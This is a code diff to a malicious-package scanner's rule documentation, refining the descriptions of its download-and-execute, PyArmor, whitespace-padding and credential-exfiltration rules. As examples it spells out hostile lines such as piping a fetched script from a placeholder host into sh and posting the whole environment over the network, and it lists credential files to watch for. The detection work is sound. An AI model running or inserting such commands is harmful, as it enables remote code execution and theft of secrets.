@@ -195,7 +195,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started.',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
@@ -322,7 +322,8 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     name: 'PyArmor loader',
     family: 'dynamic-code',
     severity: 'medium',
-    catches: 'PyArmor runtime calls that load encrypted code nobody can review.',
+    catches:
+      'PyArmor runtime calls that load encrypted code nobody can review (pyarmor_runtime(), __pyarmor__(__name__, __file__, b"...")). The code cannot be analysed, so the target is UNAUDITED and fails the check.',
     example: 'from pytransform import pyarmor_runtime; pyarmor_runtime()',
     falsePositives: 'Commercial packages that protect their code.',
   },
@@ -342,7 +343,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'medium',
     catches:
-      'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes).',
+      'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes; a run of 100+ spaces is enough then).',
     example: 'x = 1' + ' '.repeat(8) + '...;exec(...)',
     falsePositives: 'Generated data tables with wide alignment.',
   },
@@ -356,7 +357,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots; a parameter named for a wallet's private key or recovery phrase) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
     example: 'requests.post(URL, json=dict(os.environ))',
     falsePositives:
-      'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).',
+      'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high). The environment filtered by a condition that names no secret (`if k.startswith("KERNEL_")`, jupyter-server\'s gateway) counts as variables selected by name, not the whole environment.',
   },
   {
     id: 'sensitive-file-access',
